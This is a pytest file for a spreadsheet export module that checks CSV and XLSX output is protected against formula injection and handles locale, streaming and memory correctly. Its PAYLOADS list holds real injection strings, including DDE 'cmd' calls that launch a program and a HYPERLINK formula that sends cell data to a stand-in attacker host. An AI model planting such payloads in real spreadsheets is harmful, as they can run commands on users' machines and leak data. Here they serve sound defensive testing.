import csv
import io
import re
import tracemalloc
import zipfile
from datetime import UTC, date, datetime
from decimal import Decimal

import openpyxl
import pytest

from malaka_portal import spreadsheets
from malaka_portal.spreadsheets import csv_rows, defuse, xlsx_rows

PAYLOADS = [
    "=1+1",
    '=HYPERLINK("http://evil.example?x="&A1,"Klik")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\uff1d1+1",
    "\uff0b1+1",
    "\uff0d1+1",
    "\uff20SUM(1)",
    "  =1+1",
    "+62-812-3456",
]
HARMLESS = ["Maria", "", "+6281234567890", "+670 7712 3456", "-5000", "-1.500.000,00", "+3", "a=b"]


def xlsx(header, rows, **options):
    return b"".join(xlsx_rows(header, rows, **options))


def sheet(data):
    return openpyxl.load_workbook(io.BytesIO(data))["Data 1"]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_csv_keeps_a_formula_from_running(payload):
    data = b"".join(csv_rows(["name"], [[payload]])).decode("utf-8-sig")

    assert next(csv.reader(io.StringIO(data, newline=""), delimiter=";")) == ["name"]
    assert list(csv.reader(io.StringIO(data, newline=""), delimiter=";"))[1] == [f"'{payload}"]


@pytest.mark.parametrize("text", HARMLESS)
def test_csv_leaves_names_phones_and_numbers_alone(text):
    assert defuse(text) == text


def test_csv_as_excel_in_indonesia_opens_it():
    row = ['Abuk; "Mama"', 1_500_000, date(2026, 11, 4), Decimal("2.5"), None]
    row += [datetime(2026, 11, 4, 1, 12, tzinfo=UTC)]
    data = b"".join(csv_rows(["nama", "simpanan", "tanggal", "bobot", "x", "jam"], [row]))

    assert data == (
        b"\xef\xbb\xbfnama;simpanan;tanggal;bobot;x;jam\r\n"
        b'"Abuk; ""Mama""";1500000;2026-11-04;2,5;;2026-11-04 09:12:00\r\n'
    )


def test_no_cell_of_an_xlsx_is_a_formula():
    data = xlsx(PAYLOADS, [PAYLOADS, HARMLESS])
    book = zipfile.ZipFile(io.BytesIO(data))
    formulas = [name for name in book.namelist() if re.search(rb"<f[ >/]", book.read(name))]

    assert formulas == []
    assert book.testzip() is None
    written = [text.replace("\r", "\n") for text in PAYLOADS]
    assert [[cell.value for cell in row] for row in sheet(data)["A1:N2"]] == [written, written]


def test_xlsx_brings_back_what_was_written():
    moment = datetime(2026, 11, 4, 1, 12, 30, tzinfo=UTC)
    row = ["Antónia <b> & 'Mama'", "0031", 1_500_000, -5, Decimal("2.5"), date(2026, 11, 4)]
    row += [moment, None, "5321104507909001", 5321104507909001, date(1899, 1, 2), True]
    data = xlsx([str(at) for at in range(len(row))], [row], author="maria")
    cells = list(sheet(data)[2])

    assert [cell.value for cell in cells] == [
        "Antónia <b> & 'Mama'",
        "0031",
        1_500_000,
        -5,
        2.5,
        datetime(2026, 11, 4),
        datetime(2026, 11, 4, 9, 12, 30),
        None,
        "5321104507909001",
        "5321104507909001",
        "1899-01-02",
        True,
    ]
    assert (cells[5].number_format, cells[1].number_format) == ("dd\\-mm\\-yyyy", "@")
    assert openpyxl.load_workbook(io.BytesIO(data)).properties.creator == "maria"


def test_xlsx_hides_the_columns_that_only_an_import_reads():
    columns = sheet(xlsx(["_id", "_versi", "Nama"], [[1, 2, "Maria"]])).column_dimensions

    assert [columns[name].hidden for name in "ABC"] == [True, True, False]


def test_what_xml_and_excel_cannot_hold_is_left_out():
    value = sheet(xlsx(["x"], [["a\x00\x1b\ud800b\uffff" + "c" * 40_000]]))["A2"].value

    assert value == "ab" + "c" * 32_765


def test_an_empty_list_is_a_file_with_a_header():
    assert [cell.value for cell in sheet(xlsx(["Nama"], []))[1]] == ["Nama"]
    assert b"".join(csv_rows(["Nama"], [])).decode("utf-8-sig") == "Nama\r\n"


def test_more_rows_than_a_sheet_holds_go_on_the_next_one(monkeypatch):
    monkeypatch.setattr(spreadsheets, "ROWS_PER_SHEET", 2)
    book = openpyxl.load_workbook(io.BytesIO(xlsx(["n"], ([n] for n in range(5)))))

    assert [[c.value for c in s["A"]] for s in book] == [["n", 0, 1], ["n", 2, 3], ["n", 4]]


@pytest.mark.parametrize("write", [csv_rows, xlsx_rows])
def test_rows_are_asked_for_as_the_file_is_taken(write):
    asked = []
    parts = write(["n"], (asked.append(n) or [n] for n in range(100_000)))
    next(parts)

    assert len(asked) <= 2 * spreadsheets.ROWS_PER_CHUNK


@pytest.mark.parametrize("write", [csv_rows, xlsx_rows])
def test_memory_does_not_grow_with_the_list(write):
    def peak(count):
        rows = (["Maria Goreti Hoar", n, date(2026, 11, 4)] for n in range(count))
        tracemalloc.start()
        size = sum(len(part) for part in write(["nama", "n", "tanggal"], rows))
        _now, most = tracemalloc.get_traced_memory()
        tracemalloc.stop()
        return size, most

    small, large = peak(2_000), peak(100_000)

    assert large[0] > 20 * small[0]
    assert large[1] < 1.2 * small[1]
